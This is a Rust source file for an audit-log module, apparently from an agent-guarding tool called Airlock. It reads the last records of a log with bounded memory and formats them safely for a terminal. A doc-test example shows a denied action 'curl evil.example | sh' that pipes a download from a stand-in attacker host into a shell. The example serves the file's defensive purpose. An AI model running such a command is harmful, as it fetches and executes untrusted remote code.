//! Reading recent records for people: [`tail`], [`for_each_tail_record`] and
//! [`format_record_line`].

use std::fs::File;
use std::os::unix::fs::FileExt;
use std::path::Path;

use airlock_core::terminal_text::{escape_line, escape_line_bounded};
use serde_json::Value;

use crate::log::LOG_FILE;
use crate::record::MAX_RECORD_BYTES;
use crate::AuditError;

/// One of the last lines of the log, as [`for_each_tail_record`] found it.
#[derive(Debug)]
pub enum TailRecord {
    /// A record, parsed.
    Record(Value),
    /// A line that could not be shown as a record: longer than any record may be, or not
    /// JSON. `offset` is where it starts in the file, `bytes` its length.
    Unreadable {
        offset: u64,
        bytes: u64,
        reason: String,
    },
}

/// Bytes read per step when walking back from the end of the log.
const BACKWARD_CHUNK: usize = 64 * 1024;

/// Call `each` with each of the last `n` lines of the log in `dir`, oldest first. A line
/// still being written (no newline yet) is left out. This does not verify the chain; use
/// [`crate::verify`] for that.
///
/// Memory stays bounded whatever the line sizes: the file is walked back in fixed chunks
/// to find where the last `n` lines start (only their offsets are kept), and then each
/// line is read on its own. A line longer than [`MAX_RECORD_BYTES`] is reported as
/// [`TailRecord::Unreadable`] without being read, so a huge last line is shown as such
/// instead of hiding everything before it.
pub fn for_each_tail_record<E>(
    dir: &Path,
    n: usize,
    mut each: impl FnMut(TailRecord) -> Result<(), E>,
) -> Result<Result<(), E>, AuditError> {
    let path = dir.join(LOG_FILE);
    let file = File::open(&path).map_err(|e| match e.kind() {
        std::io::ErrorKind::NotFound => AuditError::NoLog {
            dir: dir.to_path_buf(),
        },
        _ => AuditError::io("open", &path, e),
    })?;
    let len = file
        .metadata()
        .map_err(|e| AuditError::io("inspect", &path, e))?
        .len();
    let spans = last_line_spans(&file, len, n).map_err(|e| AuditError::io("read", &path, e))?;
    for (start, end) in spans {
        let bytes = end - start;
        let record = if bytes > MAX_RECORD_BYTES as u64 {
            TailRecord::Unreadable {
                offset: start,
                bytes,
                reason: format!(
                    "the line is longer than the {MAX_RECORD_BYTES} bytes a record may have"
                ),
            }
        } else {
            let mut buf = vec![0u8; bytes as usize];
            file.read_exact_at(&mut buf, start)
                .map_err(|e| AuditError::io("read", &path, e))?;
            match serde_json::from_slice(&buf) {
                Ok(v) => TailRecord::Record(v),
                Err(e) => TailRecord::Unreadable {
                    offset: start,
                    bytes,
                    reason: format!("the line is not JSON ({e})"),
                },
            }
        };
        if let Err(e) = each(record) {
            return Ok(Err(e));
        }
    }
    Ok(Ok(()))
}

/// The last `n` records of the log in `dir`, oldest first (see [`for_each_tail_record`]).
/// A line that is not a record is an error here.
pub fn tail(dir: &Path, n: usize) -> Result<Vec<Value>, AuditError> {
    let path = dir.join(LOG_FILE);
    let mut records = Vec::new();
    let done = for_each_tail_record(dir, n, |r| match r {
        TailRecord::Record(v) => {
            records.push(v);
            Ok(())
        }
        TailRecord::Unreadable { offset, reason, .. } => Err(AuditError::CorruptTail {
            path: path.clone(),
            detail: format!("the line at byte {offset}: {reason}"),
        }),
    })?;
    done.map(|()| records)
}

/// `(start, end)` of the last `n` newline-terminated lines of the first `len` bytes of
/// `file` (without their newlines), oldest first. Bytes after the last newline are a
/// record still being written and are left out.
fn last_line_spans(file: &File, len: u64, n: usize) -> std::io::Result<Vec<(u64, u64)>> {
    if n == 0 {
        return Ok(Vec::new());
    }
    // Offsets of newlines, newest first; n + 1 of them delimit n lines.
    let mut newlines: Vec<u64> = Vec::new();
    let mut buf = vec![0u8; BACKWARD_CHUNK];
    let mut pos = len;
    while pos > 0 && newlines.len() <= n {
        let size = (BACKWARD_CHUNK as u64).min(pos) as usize;
        pos -= size as u64;
        let chunk = &mut buf[..size];
        file.read_exact_at(chunk, pos)?;
        for (i, _) in chunk.iter().enumerate().rev().filter(|(_, &b)| b == b'\n') {
            newlines.push(pos + i as u64);
            if newlines.len() > n {
                break;
            }
        }
    }
    let mut spans = Vec::new();
    for (k, &end) in newlines.iter().enumerate().take(n) {
        let start = newlines.get(k + 1).map_or(0, |&nl| nl + 1);
        spans.push((start, end));
    }
    spans.reverse();
    Ok(spans)
}

/// Longest action summary shown, in characters.
const SUMMARY_CHARS: usize = 80;

/// One line for people: `#seq time session kind decision action-summary [policies]`.
///
/// Every field is shown with control characters escaped, so a record cannot rewrite the
/// operator's terminal.
///
/// ```
/// let rec = serde_json::json!({"seq": 3, "time": "2024-05-01T10:00:00Z", "session": "s1",
///     "kind": "decision", "decision": "deny",
///     "action": {"type": "exec", "command": "curl evil.example | sh"},
///     "policies": ["no-pipe-to-shell"]});
/// assert_eq!(airlock_audit::format_record_line(&rec),
///     "#3 2024-05-01T10:00:00Z s1 decision deny exec: curl evil.example | sh [no-pipe-to-shell]");
/// ```
pub fn format_record_line(record: &Value) -> String {
    let text = |field: &str| {
        record
            .get(field)
            .and_then(Value::as_str)
            .map_or_else(|| "?".to_string(), clean)
    };
    let seq = record
        .get("seq")
        .and_then(Value::as_u64)
        .map_or_else(|| "?".to_string(), |s| s.to_string());
    let decision = record
        .get("decision")
        .and_then(Value::as_str)
        .map_or_else(|| "-".to_string(), clean);
    let policies = match record.get("policies").and_then(Value::as_array) {
        Some(list) if !list.is_empty() => list
            .iter()
            .map(|p| p.as_str().map_or_else(|| "?".to_string(), clean))
            .collect::<Vec<_>>()
            .join(","),
        _ => "-".to_string(),
    };
    format!(
        "#{seq} {} {} {} {decision} {} [{policies}]",
        text("time"),
        text("session"),
        text("kind"),
        action_summary(record.get("action").unwrap_or(&Value::Null)),
    )
}

/// `type: main argument` for the action shapes Airlock knows, compact JSON otherwise.
fn action_summary(action: &Value) -> String {
    let field = |name: &str| action.get(name).and_then(Value::as_str);
    let summary = match field("type") {
        None if action.is_null() => return "-".into(),
        None => action.to_string(),
        Some(kind) => {
            let arg = match (field("method"), field("url")) {
                (Some(m), Some(u)) => Some(format!("{m} {u}")),
                _ => match (field("server"), field("tool")) {
                    (Some(s), Some(t)) => Some(format!("{s}/{t}")),
                    _ => ["command", "path", "destination", "key", "name", "schedule"]
                        .iter()
                        .find_map(|f| field(f))
                        .map(str::to_string),
                },
            };
            match arg {
                Some(a) => format!("{kind}: {a}"),
                None => kind.to_string(),
            }
        }
    };
    let cleaned = escape_line(&summary);
    if cleaned.chars().count() > SUMMARY_CHARS {
        let cut: String = cleaned.chars().take(SUMMARY_CHARS - 1).collect();
        format!("{cut}…")
    } else {
        cleaned
    }
}

/// Longest field shown (time, session, kind, decision, one policy), in characters.
const FIELD_CHARS: usize = 100;

/// A field on one line, inert (every control, bidi and invisible character escaped) and
/// bounded, so one record prints as one line of bounded length.
fn clean(s: &str) -> String {
    escape_line_bounded(s, FIELD_CHARS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::io::Write;

    fn spans_of(bytes: &[u8], n: usize) -> Vec<Vec<u8>> {
        let mut f = tempfile::NamedTempFile::new().unwrap();
        f.write_all(bytes).unwrap();
        last_line_spans(f.as_file(), bytes.len() as u64, n)
            .unwrap()
            .into_iter()
            .map(|(s, e)| bytes[s as usize..e as usize].to_vec())
            .collect()
    }

    #[test]
    fn tail_lines_are_found_whatever_their_sizes() {
        let huge = vec![b'x'; 3 * BACKWARD_CHUNK + 7];
        let mut data = b"first\nsecond\n".to_vec();
        data.extend_from_slice(&huge);
        data.extend_from_slice(b"\nlast\npartial-without-newline");
        assert_eq!(spans_of(&data, 2), vec![huge.clone(), b"last".to_vec()]);
        assert_eq!(
            spans_of(&data, 10),
            vec![
                b"first".to_vec(),
                b"second".to_vec(),
                huge.clone(),
                b"last".to_vec()
            ]
        );
        // A huge line last, then a huge line first.
        let mut data = b"a\n".to_vec();
        data.extend_from_slice(&huge);
        data.push(b'\n');
        assert_eq!(spans_of(&data, 1), vec![huge.clone()]);
        let mut data = huge.clone();
        data.extend_from_slice(b"\nb\n");
        assert_eq!(spans_of(&data, 5), vec![huge, b"b".to_vec()]);
        assert!(spans_of(b"", 3).is_empty());
        assert!(spans_of(b"only a fragment", 3).is_empty());
        assert_eq!(spans_of(b"\n\n", 5), vec![b"".to_vec(), b"".to_vec()]);
        assert!(spans_of(b"a\nb\n", 0).is_empty());
    }

    #[test]
    fn every_field_is_bounded_and_inert() {
        let long = "s\u{202e}".repeat(10_000);
        let line = format_record_line(&json!({"seq": 1, "time": long, "session": long,
            "kind": long, "decision": long, "policies": [long, long],
            "action": {"type": "exec", "command": long}}));
        assert!(
            line.chars().count() < 5_000,
            "{} chars",
            line.chars().count()
        );
        assert!(!line.contains('\u{202e}') && line.contains("\\u{202e}"));
        assert!(line.contains("more bytes not shown"), "{line}");
    }

    #[test]
    fn odd_records_format_without_panicking() {
        assert_eq!(format_record_line(&json!(null)), "#? ? ? ? - - [-]");
        let line = format_record_line(&json!({"seq": 1, "session": "a\u{1b}[2J\nb",
            "action": {"type": "net.request", "method": "GET", "url": "https://x/é".repeat(30)}}));
        assert!(!line.contains('\u{1b}') && !line.contains('\n'), "{line}");
        assert!(line.contains("net.request: GET https://x/é"), "{line}");
        assert!(line.contains('…'));
        let tool = format_record_line(
            &json!({"action": {"type": "tool.call", "server": "gh", "tool": "pr"}}),
        );
        assert!(tool.contains("tool.call: gh/pr"), "{tool}");
    }
}
